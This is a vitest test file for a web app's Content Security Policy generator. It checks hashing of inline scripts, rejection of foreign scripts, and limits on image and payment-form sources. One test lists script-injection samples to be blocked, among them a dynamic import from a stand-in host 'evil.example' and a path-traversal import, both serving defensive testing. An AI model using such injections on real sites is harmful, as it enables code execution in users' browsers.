import { createHash } from "node:crypto";
import { expect, test } from "vitest";
import { COLOR_MODE_BOOT_SCRIPT } from "#app/lib/color-mode.ts";
import { HAND_OFF_SCRIPT } from "#app/lib/hand-off-script.ts";
import { AFTER_FIRST_PAINT, loadScriptsLate } from "./late-scripts.ts";
import { contentSecurityPolicy } from "./security-headers.ts";

const site = {
  backendPublicUrl: "/media",
  paymentOrigins: ["https://pay.example.org"],
};
const hash = (code: string) => `'sha256-${createHash("sha256").update(code).digest("base64")}'`;

const SETTINGS = `window.__reactRouterContext = {"basename":"/","future":{}};window.__reactRouterContext.stream = new ReadableStream({start(controller){window.__reactRouterContext.streamController = controller;}}).pipeThrough(new TextEncoderStream());`;
const MODULES = `import "/assets/manifest-1a.js";
import * as route0 from "/assets/root-2b.js";
import * as route1_clientLoader from "/assets/loader-3c.js";
import * as route1_main from "/assets/page-4d.js";
const route1 = {...route1_clientLoader,...route1_main};
  window.__reactRouterRouteModules = {"root":route0,"routes/content-page":route1};

import("/assets/entry.client-5e.js");`;
const TEMPLATE = [COLOR_MODE_BOOT_SCRIPT, SETTINGS, HAND_OFF_SCRIPT];

const scriptsOf = (html: string) =>
  /script-src ([^;]*)/.exec(contentSecurityPolicy(site, { pathname: "/", html }))?.[1];

test("the template's inline scripts are named by their hash, files are not", () => {
  const inline = TEMPLATE.map((code) => `<script>${code}</script>`).join("");
  const html = loadScriptsLate(`<html><head></head>${inline}<script src="/a.js"></script>
    <script type="module" async="">${MODULES}</script></html>`);
  const late = /<script type="module">([^]*?)<\/script>/.exec(html)?.[1] ?? "";
  expect(scriptsOf(html)).toBe(["'self'", ...[...TEMPLATE, late].map(hash)].join(" "));
});

test("a script that came into the page otherwise is not allowed, wherever it stands", () => {
  const foreign = [
    "steal()",
    `${COLOR_MODE_BOOT_SCRIPT};steal()`,
    ` ${HAND_OFF_SCRIPT}`,
    SETTINGS.replace('"/"', "steal()"),
    SETTINGS.replace("{}}", '{}};steal();x={"y":1}'),
    `${AFTER_FIRST_PAINT}steal()`,
    `${AFTER_FIRST_PAINT}const []=await Promise.all([import("//evil.example/a.js")]);window.__reactRouterRouteModules = {};import("/assets/a.js");`,
    `${AFTER_FIRST_PAINT}const []=await Promise.all([import("/assets/../media/a.js")]);window.__reactRouterRouteModules = {};import("/assets/a.js");`,
    `${AFTER_FIRST_PAINT}const []=await Promise.all([import("/assets/a.js")]);window.__reactRouterRouteModules = {"root":steal()};import("/assets/a.js");`,
  ];
  for (const code of foreign) {
    expect(scriptsOf(`<script>${code}</script><body></body>`), code).toBe("'self'");
    expect(scriptsOf(`<body></body><script type="module">${code}</script>`), code).toBe("'self'");
  }
});

test("data in a page is no code and needs no name", () => {
  const html = `<script type="application/ld+json">{}</script><script type="application/json">[]</script>`;
  expect(contentSecurityPolicy(site, { pathname: "/", html })).toContain("script-src 'self';");
});

test("nothing unsafe, nothing foreign, no plugin, no frame", () => {
  const policy = contentSecurityPolicy(site, { pathname: "/", html: `<script>${HAND_OFF_SCRIPT}</script>` });
  expect(policy).not.toMatch(/unsafe|https?:|\*|data:/);
  for (const rule of ["default-src 'none'", "base-uri 'none'", "object-src 'none'", "frame-ancestors 'none'"]) {
    expect(policy).toContain(rule);
  }
});

test("pictures may come from another host only when the operator says so", () => {
  const elsewhere = { ...site, backendPublicUrl: "https://media.wren.example/files" };
  const policy = contentSecurityPolicy(elsewhere, { pathname: "/", html: "" });
  expect(policy).toContain("img-src 'self' https://media.wren.example;");
});

test("only the pages that lead to a payment may send a form to the provider", () => {
  const formsOn = (pathname: string) =>
    /form-action[^;]*/.exec(contentSecurityPolicy(site, { pathname, html: "" }))?.[0];
  for (const pathname of ["/shop/checkout", "/de/shop/checkout", "/shop/confirmation", "/de/shop/confirmation"]) {
    expect(formsOn(pathname), pathname).toBe("form-action 'self' https://pay.example.org");
  }
  for (const pathname of ["/", "/shop", "/shop/checkout/more", "/support/contact"]) {
    expect(formsOn(pathname), pathname).toBe("form-action 'self'");
  }
});
